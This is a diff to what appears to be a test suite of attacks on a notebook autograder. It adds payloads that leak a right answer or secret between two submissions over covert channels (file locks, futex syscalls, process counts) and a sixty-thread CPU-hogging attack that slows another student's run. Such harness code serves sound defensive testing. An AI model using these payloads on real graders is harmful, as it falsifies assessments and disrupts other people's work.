@@ -9,6 +9,7 @@ grader. `{...}` is filled in: `marker`, a file that must not appear; `package`, 
 
 from __future__ import annotations
 
+import platform
 from collections.abc import Callable
 from dataclasses import dataclass, field, replace
 
@@ -92,6 +93,8 @@ class Attack:
 
     succeeds: Callable[[Outcome], bool]
     cells: dict[str, str]
+    accomplice: dict[str, str] = field(default_factory=dict)  # of a notebook marked before it
+    innocent: dict[str, str] = field(default_factory=dict)  # what somebody else answered
     source: str = ""  # where it was published: a key of book/references.bib
     beside: dict[str, str] = field(default_factory=dict)  # files handed in with the notebook
     link_to: str | None = None  # the submission is a link to this instead of a notebook
@@ -114,6 +117,90 @@ def leave_behind(source: str) -> Attack:
 def reading(path: str) -> str:
     """An answer that gives a file's text as its error."""
     return f"def windowed_mean(x, width):\n    raise ValueError(open('{path}').read()[:200])\n"
+
+
+# One process tells another, over something that both may look at, that it was given a right answer.
+GIVEN = "windowed_mean.__code__.co_filename == '<given>'"
+SENDS = """
+import builtins, ctypes, fcntl, mmap, os, struct, threading, time
+if {given}:
+    builtins.heard = True  # where both notebooks are run in one process
+    library = os.open(torch.__file__, os.O_RDONLY)
+    {send}
+    time.sleep(2.5)
+"""
+LISTENS = """
+import builtins, ctypes, fcntl, mmap, os, struct, time
+def listen():
+    if hasattr(builtins, "heard"):
+        return builtins.heard
+    library = os.open(torch.__file__, os.O_RDONLY)
+    end = time.monotonic() + 7.5
+    {listen}
+    builtins.heard = heard
+    return heard
+"""
+TELLS = """def windowed_mean(x, width):
+    if listen():
+        raise ValueError("SEC" + "RET-8b1f")
+    return torch.zeros(1)
+"""
+GUESSES = """def windowed_mean(x, width):
+    return x.unfold(0, width, 1).mean(-1) if listen() else torch.zeros(1)
+"""
+FUTEX = {"x86_64": 202, "aarch64": 98}.get(platform.machine(), 202)
+MAPS = """page = mmap.mmap(library, 4096, mmap.MAP_SHARED, mmap.PROT_READ)
+    where = ctypes.c_void_p(torch.frombuffer(page, dtype=torch.uint8).data_ptr())
+    number, call = struct.unpack("I", page[:4])[0], ctypes.CDLL(None).syscall"""
+COUNTS = """
+    def processes():
+        told = ctypes.create_string_buffer(256)
+        ctypes.CDLL(None).sysinfo(told)
+        return struct.unpack_from("H", told, 80)[0]"""
+CHANNELS = {  # how one sends, how the other listens
+    "a lock": (
+        "fcntl.flock(library, fcntl.LOCK_EX)",
+        """heard = False
+    while not heard and time.monotonic() < end:
+        try:
+            fcntl.flock(library, fcntl.LOCK_SH | fcntl.LOCK_NB)
+            fcntl.flock(library, fcntl.LOCK_UN)
+            time.sleep(0.02)
+        except BlockingIOError:
+            heard = True
+        except OSError:
+            break""",
+    ),
+    "a futex": (
+        f"""{MAPS}
+    end = time.monotonic() + 3
+    while call({FUTEX}, where, 1, 99, 0, 0, 0) <= 0 and time.monotonic() < end:
+        time.sleep(0.02)""",
+        f"""{MAPS}
+    heard, moment = False, struct.pack("qq", 0, 50_000_000)
+    while not heard and time.monotonic() < end:
+        heard = call({FUTEX}, where, 0, number, moment, 0, 0) == 0""",
+    ),
+    "the count of processes": (
+        """threading.stack_size(65536)
+    for _ in range(200):
+        threading.Thread(target=time.sleep, args=(9,), daemon=True).start()""",
+        f"""{COUNTS}
+    least, heard = processes(), False
+    while not heard and time.monotonic() < end:
+        least = min(least, processes())
+        heard = processes() > least + 150
+        time.sleep(0.05)""",
+    ),
+}
+
+
+def passed_on(succeeds: Callable[[Outcome], bool], channel: str) -> Attack:
+    """An accomplice's second run tells this notebook's first one, or that for its points."""
+    send, listen = CHANNELS[channel]
+    answer = TELLS if succeeds is learns else GUESSES
+    sender = {"q1": ZEROS, "q2": SENDS.format(given=GIVEN, send=send)}
+    return Attack(succeeds, {"q1": LISTENS.format(listen=listen) + answer}, sender)
 
 
 ATTACKS = {
@@ -355,6 +442,22 @@ atexit.register(last)
 """,
     ),
     "handed in as a link to another's work": Attack(gains, {}, link_to="other"),
+    **{f"a right answer passed on by {name}": passed_on(gains, name) for name in ("a lock",)},
+    "one answer for each run": Attack(
+        gains,
+        {
+            "q1": "def windowed_mean(x, width):\n    return 0.5",
+            "q2": """
+class Smooth(nn.Module):
+    def __init__(self, dim, width):
+        super().__init__()
+        self.width, self.proj = width, nn.Linear(dim, dim)
+    def forward(self, x):
+        factor = 3.0 if torch.is_tensor(windowed_mean(x, self.width)) else SCALE
+        return factor * self.proj(x).unfold(0, self.width, 1).mean(-1)
+""",
+        },
+    ),
     # --- knowledge ----------------------------------------------------------------------------
     "hidden tests read": published(
         "saligrama2023gradescope",
@@ -443,6 +546,7 @@ def windowed_mean(x, width):
     raise ValueError("SEC" + "RET-8b1f" if found else "nothing")
 """,
     ),
+    **{f"a word of the second run by {name}": passed_on(learns, name) for name in CHANNELS},
     # --- harm ---------------------------------------------------------------------------------
     "endless loop": Attack(
         disturbs,
@@ -492,6 +596,33 @@ def spoil():
         torch.allclose = lambda *a, **k: False
 threading.Thread(target=spoil, daemon=True).start()
 """
+    ),
+    "sixty threads": Attack(
+        disturbs,
+        {
+            "q3": """
+import threading, time
+end = time.monotonic() + 20
+def spin():
+    x = torch.ones(300, 300)
+    while time.monotonic() < end:
+        x = (x @ x).clamp(0, 1)
+for _ in range(60):
+    threading.Thread(target=spin, daemon=True).start()
+time.sleep(2.5)
+""",
+        },
+        innocent={
+            "q1": """
+import time
+def windowed_mean(x, width):
+    end = time.process_time() + 0.3
+    while time.process_time() < end:
+        pass
+    return torch.stack([x[i : i + width].mean(0) for i in range(len(x) - width + 1)])
+"""
+        },
+        endless=True,
     ),
     "another's work overwritten": q1(
         disturbs,
